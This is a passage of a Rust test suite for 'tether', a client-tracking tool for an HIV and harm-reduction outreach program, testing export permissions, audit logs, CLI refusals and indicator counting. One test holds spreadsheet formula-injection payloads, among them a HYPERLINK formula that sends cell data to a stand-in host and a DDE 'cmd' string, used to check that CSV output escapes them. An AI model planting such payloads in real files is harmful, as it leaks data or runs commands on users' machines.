    assert_eq!(a["contacts"], "4");
    assert_eq!(a["arrests"], "2");
    assert_eq!(a["detentions"], "2");
    let c = &rows[2];
    assert_eq!(
        (c["sex"].as_str(), c["age_band"].as_str()),
        ("unknown", "unknown")
    );
    assert_eq!(c["detention_location"], "", "released on the day");
    assert_eq!(c["contacts"], "1", "the tombstoned contact is not counted");
    assert_eq!(c["arrests"], "0");
    assert_eq!(c["enrollments"], "art");

    // Identifiable, by an admin: names and phones, audited as such.
    let path = dir.join("named.xlsx");
    assert_eq!(export(&mut store, true, &path), 15);
    assert!(last_audit(&store).detail.contains("identifiable: yes"));
    let mut wb = open_workbook_auto(&path).unwrap();
    let range = wb.worksheet_range("Clients").unwrap();
    let rows: Vec<Vec<Data>> = range.rows().map(<[Data]>::to_vec).collect();
    assert_eq!(rows.len(), 16);
    let header: Vec<String> = rows[0].iter().map(cell_text).collect();
    assert_eq!(header, tether::reports::linelist::columns(true));
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    assert_eq!(cell_text(&rows[1][col("nickname")]), "nick A");
    assert_eq!(cell_text(&rows[1][col("phone")]), "012 345 678");
    assert_eq!(cell_text(&rows[1][col("contacts")]), "4");
    assert!(matches!(rows[1][col("detained_since")], Data::DateTime(_)));
    assert!(wb.worksheet_range("About").is_ok());
}

#[test]
fn only_coordinators_and_above_export_identifiable_data_refused_in_the_store() {
    let (db, mut store) = fresh();
    fixture(&mut store);
    add_user(&mut store, "sokha", Role::Outreach);
    add_user(&mut store, "coord", Role::Coordinator);
    add_user(&mut store, "manager", Role::Manager);
    store.close().unwrap();
    let dir = db.dir.path();

    let mut outreach = Store::open(&db.path, "sokha", PASSWORD).unwrap();
    for identifiable in [true, false] {
        let err = outreach.export_job(identifiable, day(TO)).err().unwrap();
        assert!(matches!(err, StoreError::Forbidden { .. }), "{err:?}");
    }
    assert!(matches!(
        outreach.report_job(day(FROM), day(TO)).err().unwrap(),
        StoreError::Forbidden { .. }
    ));
    outreach.close().unwrap();

    for who in ["coord", "manager"] {
        let mut s = Store::open(&db.path, who, PASSWORD).unwrap();
        let path = dir.join(format!("{who}.csv"));
        assert_eq!(export(&mut s, true, &path), 15);
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains("nick A"), "{who}");
        let report = s.period_report(day(FROM), day(TO)).unwrap();
        s.save_report(&report, &dir.join(format!("{who}.json")), None)
            .unwrap();
        s.close().unwrap();
    }
    // Every export left an audit entry naming who and what; no outreach one.
    let store = Store::open(&db.path, "admin", PASSWORD).unwrap();
    let exports: Vec<AuditEntry> = store
        .audit_log(1000)
        .unwrap()
        .into_iter()
        .filter(|e| e.action == AuditAction::Export)
        .collect();
    assert_eq!(exports.len(), 4);
    assert_eq!(
        exports
            .iter()
            .filter(|e| e.detail.contains("identifiable: yes"))
            .count(),
        2
    );
}

#[test]
fn a_cancelled_export_leaves_no_file() {
    let (db, mut store) = fresh();
    fixture(&mut store);
    let dir = db.dir.path();
    for name in ["gone.csv", "gone.xlsx"] {
        let job = store.export_job(false, day(TO)).unwrap();
        let path = dir.join(name);
        let err = job
            .run(&path, &|_, _| {}, &AtomicBool::new(true))
            .unwrap_err();
        assert!(matches!(err, StoreError::Cancelled), "{err:?}");
    }
    let left: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("gone"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
    // A line list refuses .json.
    let job = store.export_job(false, day(TO)).unwrap();
    let err = job
        .run(&dir.join("list.json"), &|_, _| {}, &AtomicBool::new(false))
        .unwrap_err();
    assert!(err.to_string().contains(".csv or .xlsx"), "{err}");
}

#[test]
fn the_export_job_reports_progress_from_another_thread() {
    let (db, mut store) = fresh();
    fixture(&mut store);
    let path = db.dir.path().join("progress.xlsx");
    let job = store.export_job(false, day(TO)).unwrap();
    let out = path.clone();
    let (rows, last) = std::thread::spawn(move || {
        let last = std::sync::Mutex::new((0, 0));
        let rows = job
            .run(
                &out,
                &|done, total| *last.lock().unwrap() = (done, total),
                &AtomicBool::new(false),
            )
            .unwrap();
        (rows, last.into_inner().unwrap())
    })
    .join()
    .unwrap();
    assert_eq!(rows, 15);
    assert_eq!(last, (15, 15));
    assert!(path.exists());
}

fn tether(args: &[&str]) -> Output {
    tether_with(args, PASSWORD, None)
}

#[test]
fn the_report_and_export_commands() {
    let (db, mut store) = fresh();
    fixture(&mut store);
    add_user(&mut store, "sokha", Role::Outreach);
    store.close().unwrap();
    let dir = db.dir.path();
    let db_s = db.path.to_str().unwrap();
    let out = dir.join("r.json");
    let o = tether(&[
        "report",
        "--db",
        db_s,
        "--user",
        "admin",
        "--from",
        FROM,
        "--to",
        TO,
        "--out",
        out.to_str().unwrap(),
        "--suppress-below",
        "2",
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let r = read_json(&out);
    assert_eq!(r.suppressed_below, Some(2));
    assert_eq!(r.indicators["detention_days"].total, Count::Exact(102));
    assert_eq!(r.indicators["hiv_positive"].total, Count::Below(2));

    let bad = dir.join("bad.json");
    let o = tether(&[
        "report",
        "--db",
        db_s,
        "--user",
        "admin",
        "--from",
        TO,
        "--to",
        FROM,
        "--out",
        bad.to_str().unwrap(),
    ]);
    assert_refused(&o, "from");
    let o = tether(&[
        "report",
        "--db",
        db_s,
        "--user",
        "admin",
        "--from",
        FROM,
        "--to",
        TO,
        "--out",
        dir.join("bad.txt").to_str().unwrap(),
    ]);
    assert_refused(&o, ".json, .csv or .xlsx");
    let o = tether(&[
        "report",
        "--db",
        db_s,
        "--user",
        "admin",
        "--from",
        FROM,
        "--to",
        TO,
        "--out",
        bad.to_str().unwrap(),
        "--suppress-below",
        "1",
    ]);
    assert_refused(&o, "--suppress-below");

    let list = dir.join("list.csv");
    let o = tether(&[
        "export",
        "--db",
        db_s,
        "--user",
        "sokha",
        "--identifiable",
        "--out",
        list.to_str().unwrap(),
    ]);
    assert_refused(&o, "may not");
    let o = tether(&[
        "export",
        "--db",
        db_s,
        "--user",
        "admin",
        "--out",
        list.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stdout).contains("15 clients"));
    assert!(!dir.join("bad.json").exists() && !dir.join("bad.txt").exists());
    assert!(!std::fs::read_to_string(&list).unwrap().contains("nick"));
}

/// Text that Excel or LibreOffice would run as a formula, and the cell every
/// CSV file must hold instead: the same text after a `'`.
const FORMULAS: [(&str, &str); 6] = [
    (
        "=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
        "'=HYPERLINK(\"http://x.example/?d=\"&A1,\"open\")",
    ),
    (
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    ("+1+2", "'+1+2"),
    ("-A1", "'-A1"),
    ("\tTAB", "'\tTAB"),
    ("\rCR", "'\rCR"),
];

/// Per formula `i`: client `F-i` named and nicknamed with it, on methadone
/// and detained since 2025-03-01 at a location of that name (so the
/// worklist lists it); and client `-A1`, whose code looks like a formula.
/// (The store trims location names, so the last two are `TAB` and `CR`.)
fn formula_fixture(store: &mut Store) {
    for (i, (text, _)) in FORMULAS.iter().enumerate() {
        let mut c = Client::with_code(&format!("F-{i}"));
        c.nickname = Some((*text).to_owned());
        c.name = Some((*text).to_owned());
        let client = store.create(c).unwrap().id();
        let place = location(store, text, Availability::No, Availability::No);
        enroll(store, client, Service::Methadone, "2025-01-01", None);
        stay(store, client, place, FROM, None);
    }
    let dash = person(store, "-A1", Sex::Male, Some(1990));
    contact(store, dash, "2024-10-01", |_| {});
}

/// The CSV cell of formula `i`'s location: the store trims names.
fn location_cell(i: usize) -> &'static str {
    match FORMULAS[i] {
        ("\tTAB", _) => "TAB",
        ("\rCR", _) => "CR",
        (_, safe) => safe,
    }
}

fn csv_rows(path: &Path) -> Vec<BTreeMap<String, String>> {
    let mut r = csv::Reader::from_path(path).unwrap();
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    r.records()
        .map(|row| {
            header
                .iter()
                .cloned()
                .zip(row.unwrap().iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

#[test]
fn every_csv_file_writes_formula_like_text_as_text() {
    let (db, mut store) = fresh();
    formula_fixture(&mut store);
    let dir = db.dir.path();

    // The line list, identifiable (names and nicknames are in it).
    let path = dir.join("clients.csv");
    export(&mut store, true, &path);
    let rows = csv_rows(&path);
    for (i, (_, safe)) in FORMULAS.iter().enumerate() {
        let row = rows.iter().find(|r| r["code"] == format!("F-{i}")).unwrap();
        assert_eq!(row["nickname"], *safe);
        assert_eq!(row["name"], *safe);
        assert_eq!(row["detention_location"], location_cell(i));
        assert_eq!(row["contacts"], "0", "numbers stay numbers");
    }
    let dash = rows.iter().find(|r| r["code"] == "'-A1").unwrap();
    assert_eq!(dash["contacts"], "1");
    assert_eq!(dash["nickname"], "nick -A1");
    // The same export as XLSX holds the text as it is (cells there are typed).
    let xlsx = dir.join("clients.xlsx");
    export(&mut store, true, &xlsx);
    let mut wb = open_workbook_auto(&xlsx).unwrap();
    let range = wb.worksheet_range("Clients").unwrap();
    let texts: Vec<String> = range.rows().map(|r| cell_text(&r[1])).collect();
    assert!(texts.iter().any(|t| t == FORMULAS[0].0), "{texts:?}");

    // The worklist: client codes and location names.
    let entries = store.worklist(day(TO), None).unwrap();
    let path = dir.join("worklist.csv");
    tether::reports::worklist::write(&path, day(TO), &entries).unwrap();
    let rows = csv_rows(&path);
    let dash = rows.iter().find(|r| r["client_code"] == "'-A1").unwrap();
    assert_eq!(dash["kind"], "lost_to_follow_up");
    for i in 0..FORMULAS.len() {
        let row = rows
            .iter()
            .find(|r| r["client_code"] == format!("F-{i}") && r["kind"] == "at_risk_detained")
            .unwrap();
        assert_eq!(row["location"], location_cell(i));
        assert_eq!(row["days"], "31", "days detained, a number as it is");
        assert_eq!(row["day"], TO);
    }

    // The period report: locations where clients are detained.
    let report = store.period_report(day(FROM), day(TO)).unwrap();
    let path = dir.join("report.csv");
    store.save_report(&report, &path, None).unwrap();
    let rows = csv_rows(&path);
    for i in 0..FORMULAS.len() {
        let safe = location_cell(i);
        let row = rows
            .iter()
            .find(|r| r["indicator"] == "detained_at_end_by_location" && r["value"] == safe)
            .unwrap_or_else(|| panic!("{safe:?} in {rows:#?}"));
        assert_eq!(row["count"], "1");
    }
    assert!(
        rows.iter()
            .all(|r| !r["value"].starts_with(['=', '+', '-', '@', '\t', '\r']))
    );

    // Leading tabs and carriage returns, which the store keeps in names but
    // not in the worklist's fields, straight through the worklist's writer.
    let mut entry = entries[0].clone();
    entry.client_code = "\tTAB".into();
    entry.reason = "\rCR".into();
    entry.location = Some("=1+1".into());
    tether::reports::worklist::write(&path, day(TO), &[entry]).unwrap();
    let row = &csv_rows(&path)[0];
    assert_eq!(
        (
            row["client_code"].as_str(),
            row["reason"].as_str(),
            row["location"].as_str()
        ),
        ("'\tTAB", "'\rCR", "'=1+1")
    );

    // The import template: plain column names, unchanged.
    assert_eq!(
        tether::import::template_csv(tether::import::ImportKind::Clients),
        "code,nickname,sex,birth_year,phone,province,district,key_populations,hiv_status,assigned_worker,registered_on\n"
    );
    assert_eq!(output::csv_text("12"), "12");
    assert_eq!(output::csv_text("ស=ក"), "ស=ក");
    assert_eq!(output::csv_text(""), "");
}

/// The counting decides on facts alone: fed by hand, without a database.
#[test]
fn the_counter_counts_facts_made_by_hand() {
    use tether::reports::count::{
        ClientStays, Counter, KeyMap, Place, Reach, Refill, Stay, Treatment,
    };
    let d = |s: &str| chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap();
    let (from, to) = (d("2026-01-01"), d("2026-01-31"));
    let (a, b, gone, prison) = ([1u8; 16], [2u8; 16], [3u8; 16], [9u8; 16]);
    let mut c = Counter::new(from, to);
    c.person(a, "male", Some(1990));
    c.person(b, "female", None);
    c.seen_before(a);
    c.arrest(a, true);
    c.arrest(a, false);
    c.arrest(gone, true); // a tombstoned client: never counted
    c.arrests_done();
    let mut places = KeyMap::default();
    places.insert(
        prison,
        Place {
            name: "Prey Sar".into(),
            methadone: Availability::Yes,
            art: Availability::No,
        },
    );
    // B: on ART, held from 10 to 20 January where ART is not available,
    // released, and refilled on the 25th (within 7 days).
    let stays = [Stay {
        location: Some(prison),
        start: d("2026-01-10"),
        end: Some(d("2026-01-20")),
        release: true,
    }];
    let treatments = [Treatment {
        methadone: false,
        start: d("2025-06-01"),
        end: None,
    }];
    let mut asked = Vec::new();
    c.client_stays(
        &ClientStays {
            id: b,
            stays: &stays,
            treatments: &treatments,
            places: &places,
        },
        |end, window| {
            asked.push((end, window));
            Ok::<_, ()>(true)
        },
    )
    .unwrap();
    assert_eq!(asked, [(d("2026-01-20"), d("2026-01-27"))]);
    // B's ART refill of 30 days on 1 December ran out in the period.
    c.art_refill(Some(Refill {
        enrollment: [7; 16],
        client: b,
        active: (from, to),
        date: d("2025-12-01"),
        days: Some(30),
    }));
    c.art_refill(None);
    let mut reach = KeyMap::default();
    let mut r = Reach::default();
    r.add([10, 5, 1], b"done", b"positive", b"art;legal_aid");
    r.add([0, 0, 0], b"offered", b"", b"");
    reach.insert(a, r);
    let report = c.finish(&reach, chrono::Utc::now(), "test");
    let total = |k: &str| report.indicators[k].total;
    assert_eq!(
        (
            total("arrests"),
            total("arrests_with_abuse"),
            total("clients_arrested")
        ),
        (2, 1, 1)
    );
    assert_eq!(report.indicators["arrests"].by_sex["male"], 2);
    assert_eq!(report.indicators["arrests"].by_age["35-39"], 2);
    assert_eq!(
        (
            total("detention_days"),
            total("detentions_started"),
            total("releases")
        ),
        (11, 1, 1)
    );
    assert_eq!(
        (
            total("detained_on_art"),
            total("detained_on_methadone"),
            total("detained_without_service")
        ),
        (1, 0, 1)
    );
    assert_eq!(
        (
            total("releases_needing_relinkage"),
            total("relinked_within_7_days"),
            total("clients_detained_at_end")
        ),
        (1, 1, 0)
    );
    assert_eq!(total("art_interruptions"), 1);
    assert_eq!(report.indicators["art_interruptions"].by_age["unknown"], 1);
    assert_eq!(
        (
            total("clients_reached"),
            total("new_clients"),
            total("contacts")
        ),
        (1, 0, 2)
    );
    assert_eq!(
        (
            total("needles_syringes"),
            total("hiv_tests"),
            total("hiv_positive"),
            total("referrals")
        ),
        (10, 1, 1, 1)
    );
    assert_eq!(report.referrals_by_kind["legal_aid"], 1);
    assert_eq!(report.referrals_by_kind["tb"], 0);
}
